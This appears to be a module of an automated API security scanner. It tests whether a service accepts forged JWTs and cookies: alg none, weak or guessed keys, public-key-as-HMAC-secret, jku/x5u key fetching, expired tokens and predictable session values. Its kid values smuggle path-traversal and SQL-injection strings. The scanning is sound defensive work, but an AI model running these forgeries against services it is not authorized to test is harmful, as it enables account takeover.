"""Tokens and cookies that the service did not make, and that open what only an account may see (RFC 8725)."""

from __future__ import annotations

import base64
import json
import re
import secrets
import time
from collections.abc import Iterable, Iterator
from itertools import product
from urllib.parse import urlsplit

from harness.probes.api.authentication import Gate
from harness.probes.api.inputs import objects
from harness.probes.api.reach import Listener
from harness.probes.api.request import NOBODY, ApiAccount, Hole, json_of, lazily, succeeded
from harness.probes.api.tokens import (
    UNSIGNED,
    Jwt,
    derived_from,
    forge,
    made,
    pem_of,
    read_jwt,
    sealed_like,
    unsealed,
    weak_cookie_key,
    weak_key,
)
from harness.probes.api.world import World
from harness.probes.exchange import Exchange

_LONGEST_WAIT_S = 8.0
_KEY_PLACES = (
    "/.well-known/jwks.json",
    "/jwks.json",
    "/jwks",
    "/api/jwks.json",
    "/api/.well-known/jwks.json",
    "/oauth/jwks",
    "/oauth2/jwks",
    "/auth/jwks",
    "/certs",
    "/public-key",
    "/public_key",
    "/public.pem",
    "/publickey.pem",
    "/api/public-key",
)
_PEM = re.compile(r"-----BEGIN (?:RSA )?PUBLIC KEY-----.+?-----END (?:RSA )?PUBLIC KEY-----", re.DOTALL)
_KIDS = (
    ("../../../../../../dev/null", b""),
    ("/dev/null", b""),
    ("../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
    ("hx' UNION SELECT 'hxkey' -- ", b"hxkey"),
    ("hx' UNION SELECT 'hxkey", b"hxkey"),
)
"""What a token may name its key by, and the key that this then is."""
_TOKEN_WORDS = ("access_token", "token", "auth_token", "auth", "jwt", "api_key", "apikey", "authorization")


@lazily
def tokens_forged(world: World, gate: Gate, listener: Listener) -> list[Hole]:
    """Tokens that the service did not make, and that open the gate."""
    token = gate.account.token
    jwt = read_jwt(token)
    made_up = [(f"hx{secrets.token_hex(16)}", "takes a token that is made up")] if token else []
    if holes := [*_taken(world, gate, "any text", made_up)]:
        return holes
    if jwt is not None:
        holes += _forged_jwt(world, gate, jwt, listener)
    elif token:
        holes += _guessed(world, gate, token)
    holes += _guessed_cookies(world, gate)
    return holes


def _forged_jwt(world: World, gate: Gate, jwt: Jwt, listener: Listener) -> Iterator[Hole]:
    by_hmac = {**jwt.header, "alg": "HS256"}
    changed = (f"{jwt.signed}.{jwt.signature[::-1]}", forge(by_hmac, jwt.claims, secrets.token_bytes(32)))
    says = "takes a token whose signature is not its own"
    if by_another := [*_taken(world, gate, "signed by another key", ((each, says) for each in changed))]:
        yield from by_another
        return
    unsigned = (
        (forge({**jwt.header, "alg": word}, jwt.claims, None) + end, f"takes a token without a signature (alg: {word})")
        for word, end in product(UNSIGNED, ("", jwt.signature))
    )
    yield from _taken(world, gate, "alg none", unsigned)
    key = weak_key(jwt, own_words(world))
    if key is not None:
        says = f"signs its tokens with {key!r}, which is on every list of words: a token made with it is taken"
        yield from _taken(world, gate, "weak key", [(forge(jwt.header, {**jwt.claims, "hx": 1}, key.encode()), says)])
    kids = (
        (forge({**by_hmac, "kid": kid}, jwt.claims, known), f"takes its key from where the token says (kid: {kid})")
        for kid, known in _KIDS
    )
    yield from _taken(world, gate, "kid", kids)
    yield from _by_address(world, gate, jwt, listener)
    if not jwt.algorithm.startswith("HS"):
        # the public key, which anybody has, taken for the key of a signature by HMAC (RFC 8725, 2.1)
        says = f"takes a token signed by HS256 with the public key of {jwt.algorithm} as its secret"
        forged = ((forge(by_hmac, jwt.claims, each), says) for each in _public_keys(world))
        yield from _taken(world, gate, "public key as a secret", forged)
    if "exp" not in jwt.claims:
        seen = world.client.send(gate.account, gate.draft)
        yield _hole(gate, "takes tokens that never end: they have no exp", "token without an end", seen)
    elif key is not None:
        past = forge(jwt.header, {**jwt.claims, "exp": 1_000_000_000}, key.encode())
        yield from _taken(world, gate, "expired token", [(past, "takes a token that has ended (exp is in 2001)")])
    else:
        yield from _outlived(world, gate, jwt)


def _by_address(world: World, gate: Gate, jwt: Jwt, listener: Listener) -> Iterator[Hole]:
    """A key that is fetched from where the token says (RFC 8725, 3.10): a listener of ours is asked for it."""
    secret = secrets.token_bytes(32)
    for name in ("jku", "x5u"):
        address, word = listener.address()
        key = {"kty": "oct", "alg": "HS256", "k": base64.urlsafe_b64encode(secret).rstrip(b"=").decode()}
        key |= {"kid": jwt.header["kid"]} if "kid" in jwt.header else {}
        listener.answers[word] = json.dumps({"keys": [key]}).encode()
        for algorithm in dict.fromkeys(("HS256", jwt.algorithm, "RS256")):
            token = forge({**jwt.header, "alg": algorithm, name: address}, jwt.claims, secret)
            seen = world.client.tried(_stranger(gate, token), gate.draft)
            if seen is None or not listener.waits_for(word, 0.1):
                continue
            what = "and lets in who made it" if succeeded(seen) else "to hold its signature against"
            says = f"fetches a key from the address that a token names ({name}), {what}: a listener of ours was asked"
            yield _hole(gate, says, name, seen)
            break


def _public_keys(world: World) -> Iterator[bytes]:
    """Public keys that the service shows, in the forms in which they may be kept."""
    for place in _KEY_PLACES:
        seen = world.client.heard(NOBODY, "GET", place)
        if not succeeded(seen):
            continue
        pems = _PEM.findall(seen.text.replace("\\n", "\n"))
        pems += [pem for each in objects(json_of(seen)) if (pem := pem_of(each)) is not None]
        for pem in pems:
            yield from (f"{pem}\n".encode(), pem.encode(), pem.replace("\n", "\r\n").encode())
            yield base64.b64decode("".join(pem.split("\n")[1:-1]))


@lazily
def token_in_query(world: World, gate: Gate) -> list[Hole]:
    """A token that opens the gate from the query too, where logs, histories and Referer keep it (RFC 9700, 4.3.2)."""
    token = gate.account.token
    sign = "&" if "?" in gate.draft.target else "?"

    def asked(names: tuple[str, ...], value: str) -> Exchange | None:
        words = "&".join(f"{name}={value}" for name in names)
        return world.client.heard(NOBODY, "GET", f"{gate.draft.target}{sign}{words}")

    if not token or not succeeded(asked(_TOKEN_WORDS, token)):
        return []
    for name in _TOKEN_WORDS:
        seen = asked((name,), token)
        if succeeded(seen) and not succeeded(asked((name,), f"hx{secrets.token_hex(12)}")):
            return [_hole(gate, f"takes the token from the query too, as {name!r}", f"query parameter {name}", seen)]
    return []


def _outlived(world: World, gate: Gate, jwt: Jwt) -> Iterator[Hole]:
    """A token that lives for seconds is waited for."""
    if jwt.lifetime_s is None or jwt.lifetime_s > _LONGEST_WAIT_S:
        return
    account = world.login.enter("one user", gate.account.role, gate.account.username, gate.account.password)
    time.sleep(jwt.lifetime_s + 1.5)
    seen = world.client.tried(account, gate.draft)
    if succeeded(seen):
        says = f"takes a token {jwt.lifetime_s:g} s after its making, when it had ended"
        yield _hole(gate, says, "expired token", seen)


def _guessed(world: World, gate: Gate, token: str) -> Iterator[Hole]:
    """A token that is the account's name in another form, or that is counted up."""
    other = world.peer(gate.account)
    guess = _guess(token, gate.account.username, other.username) if other is not None else ""
    theirs = other.token if other is not None else ""
    if guess and guess == theirs:
        says = "gives tokens that are made from the account's name alone"
        yield from _taken(world, gate, "guessed token", [(guess, says)])
    elif token.isdigit() and theirs.isdigit() and abs(int(token) - int(theirs)) < 1000:
        seen = world.client.send(gate.account, gate.draft)
        yield _hole(gate, "gives tokens that are numbers counted up", "guessed token", seen)


def _guess(token: str, own: str, other: str) -> str:
    """The other account's token, as it follows from ours and both names; "" if it does not."""
    way = derived_from(token, [own])
    if way is not None:
        return made(way[0], other)
    text = unsealed(token)
    if own and own in text:
        return sealed_like(token, text.replace(own, other))
    return token.replace(own, other) if own and own in token else ""


def _guessed_cookies(world: World, gate: Gate) -> Iterator[Hole]:
    other = world.peer(gate.account)
    for name, value in gate.account.cookies.items():
        word = weak_cookie_key(value, own_words(world))
        seen = world.client.tried(gate.account, gate.draft)
        if word is not None and seen is not None:
            says = f"signs the cookie {name} with {word!r}, which is on every list of words"
            yield _hole(gate, says, f"cookie {name}", seen)
        guess = _guess(value, gate.account.username, other.username) if other is not None else ""
        if other is not None and guess and guess == other.cookies.get(name):
            yield from _by_cookie(world, gate, name, guess, other)


def _by_cookie(world: World, gate: Gate, name: str, guess: str, other: ApiAccount) -> Iterator[Hole]:
    forged_one = ApiAccount(name="somebody else", cookies={**gate.account.cookies, name: guess})
    seen = world.client.tried(forged_one, gate.draft)
    if succeeded(seen) and other.username in seen.text:
        yield _hole(gate, f"believes the cookie {name}, which is the account's name", f"cookie {name}", seen)


def own_words(world: World) -> list[str]:
    """Words of the service itself, which its makers may have taken for a key."""
    host = urlsplit(world.login.info.url).hostname or ""
    return [world.target.name, *re.split(r"[^a-z0-9]+", world.target.name), host.partition(".")[0]]


def _taken(world: World, gate: Gate, parameter: str, tokens: Iterable[tuple[str, str]]) -> Iterator[Hole]:
    """The first of some tokens that is let in, twice; beside each stands what is then wrong."""
    for token, says in tokens:
        account = _stranger(gate, token)
        seen = world.client.tried(account, gate.draft)
        if succeeded(seen) and succeeded(world.client.tried(account, gate.draft)):
            yield _hole(gate, says, parameter, seen)
            return


def _stranger(gate: Gate, token: str) -> ApiAccount:
    return ApiAccount(name="a stranger", headers={**gate.account.headers, "Authorization": f"Bearer {token}"})


def _hole(gate: Gate, says: str, parameter: str, seen: Exchange) -> Hole:
    return Hole(
        operation=gate.described.name, says=f"{says}: answered {seen.status}", parameter=parameter, proof=(seen,)
    )
